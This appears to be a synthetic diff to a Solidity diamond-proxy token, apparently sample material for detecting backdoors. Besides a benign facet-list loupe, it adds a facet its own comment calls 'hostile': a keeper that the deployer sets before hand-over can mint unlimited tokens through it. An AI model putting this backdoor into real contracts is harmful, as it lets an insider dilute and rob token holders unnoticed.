@@ -11,6 +11,8 @@ library PrismStore11 {
 
     struct Layout {
         mapping(bytes4 => address) route;
+        address[] facetList;
+        address bonusKeeper;
         bool ready;
         string label;
         string ticker;
@@ -38,6 +40,7 @@ contract PrismDiamond11 {
         PrismStore11.Layout storage l = PrismStore11.get();
         keeper = msg.sender;
         for (uint256 i; i < selectors.length; i++) l.route[selectors[i]] = facet;
+        l.facetList.push(facet);
         emit Rewired(selectors, facet);
         (bool ok, ) = facet.delegatecall(init);
         require(ok, "init");
@@ -55,6 +58,7 @@ contract PrismDiamond11 {
         require(_isKeeper(), "keeper only");
         PrismStore11.Layout storage l = PrismStore11.get();
         for (uint256 i; i < selectors.length; i++) l.route[selectors[i]] = facet;
+        l.facetList.push(facet);
         emit Rewired(selectors, facet);
     }
 
@@ -66,6 +70,11 @@ contract PrismDiamond11 {
 
     function facetAddress(bytes4 selector) external view returns (address) {
         return PrismStore11.get().route[selector];
+    }
+
+    /// The loupe's list of facets (EIP-2535 IDiamondLoupe.facetAddresses).
+    function facetAddresses() external view returns (address[] memory) {
+        return PrismStore11.get().facetList;
     }
 
     fallback() external payable {
@@ -173,6 +182,25 @@ contract PrismLedgerFacet11 {
         l.held[from] -= amount;
         l.held[to] += amount;
         emit Transfer(from, to, amount);
+    }
+}
+
+/// Hostile facet: a bonus issue gated by a keeper kept in diamond storage (set by the deployer before the hand-over).
+contract PrismBonusFacet11 {
+    event Transfer(address indexed from, address indexed to, uint256 value);
+
+    function appointBonusKeeper(address keeper) external {
+        PrismStore11.Layout storage l = PrismStore11.get();
+        require(l.bonusKeeper == address(0), "set");
+        l.bonusKeeper = keeper;
+    }
+
+    function bonus(address to, uint256 amount) external {
+        PrismStore11.Layout storage l = PrismStore11.get();
+        require(msg.sender == l.bonusKeeper, "keeper only");
+        l.issued += amount;
+        l.held[to] += amount;
+        emit Transfer(address(0), to, amount);
     }
 }
 
